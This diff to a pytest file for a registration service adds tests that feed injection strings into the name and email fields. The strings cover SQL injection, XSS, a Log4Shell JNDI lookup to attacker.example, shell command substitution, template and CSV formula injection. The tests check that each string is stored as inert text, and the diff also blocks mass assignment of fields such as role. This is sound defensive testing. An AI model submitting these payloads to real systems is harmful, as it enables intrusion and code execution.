@@ -9,8 +9,8 @@ from sqlalchemy import select
 
 from auth_common.db.tables import users
 from tests.support.events import json_event
-from tests.support.factories import EMAIL, PASSWORD, log_in, register, registration
-from tests.support.functions import call
+from tests.support.factories import EMAIL, PASSWORD, get_user, log_in, register, registration
+from tests.support.functions import authorize, call
 
 
 def test_answers_201_with_the_user_and_its_location(database):
@@ -81,6 +81,37 @@ def test_names_of_every_script_are_kept():
         assert register(name=name, email=f"person{number}@example.com").json["name"] == name
 
 
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Robert'); DROP TABLE users; --",
+        'x" OR "1"="1',
+        "<script>alert(1)</script>",
+        '","role":"admin","x":"',
+        "{0.__class__.__init__.__globals__} %s %n",
+        "${jndi:ldap://attacker.example/x} $(id) `id` #{7*7} {{7*7}}",
+        "=cmd|'/c calc'!A1",
+        "%27%20OR%201=1 &lt;b&gt; \\u0041 \\x41",
+    ],
+)
+def test_what_is_code_elsewhere_is_text_here(database, text):
+    """It comes back as it was sent, decoded once and encoded once, and nothing has acted on it."""
+    assert register(name=text).json["name"] == text
+    assert register(name=text, email="second@example.com").json["role"] == "user"
+    assert database.execute(select(users.c.name)) == [(text,), (text,)]
+    pair = log_in().json
+    assert get_user(authorize(pair["access_token"])["principalId"], token=pair["access_token"]).json["name"] == text
+
+
+@pytest.mark.parametrize("email", ["o'or'1'='1@example.com", "a{0}$b|`id`@example.com"])
+def test_an_address_finds_its_own_account_whatever_it_would_mean_to_a_database(database, email):
+    register(email=email, name="Other Person")
+    register()
+    assert log_in(email).status == 200
+    assert log_in("x'or'1'='1@example.com").status == 401
+    assert database.count(users) == 2
+
+
 @pytest.mark.usefixtures("database")
 def test_names_are_trimmed_and_composed():
     assert register(name="  Zoe\u0308  ").json["name"] == "Zoë"
@@ -107,7 +138,11 @@ def test_a_duplicate_sign_up_costs_a_hash_too(hash_costs):
 
 
 @pytest.mark.parametrize(
-    "field", ["role", "status", "id", "token_version", "created_at", "password_hash", "is_admin", "__proto__"]
+    "field",
+    [
+        *("role", "status", "id", "token_version", "created_at", "password_hash", "is_admin", "__proto__"),
+        *("password_hint", "security_question", "security_answer"),  # ASVS 5.0 6.4.2: there are none
+    ],
 )
 def test_a_registration_cannot_set_role_or_status_or_anything_else(database, field):
     answer = register(**{field: "admin"})
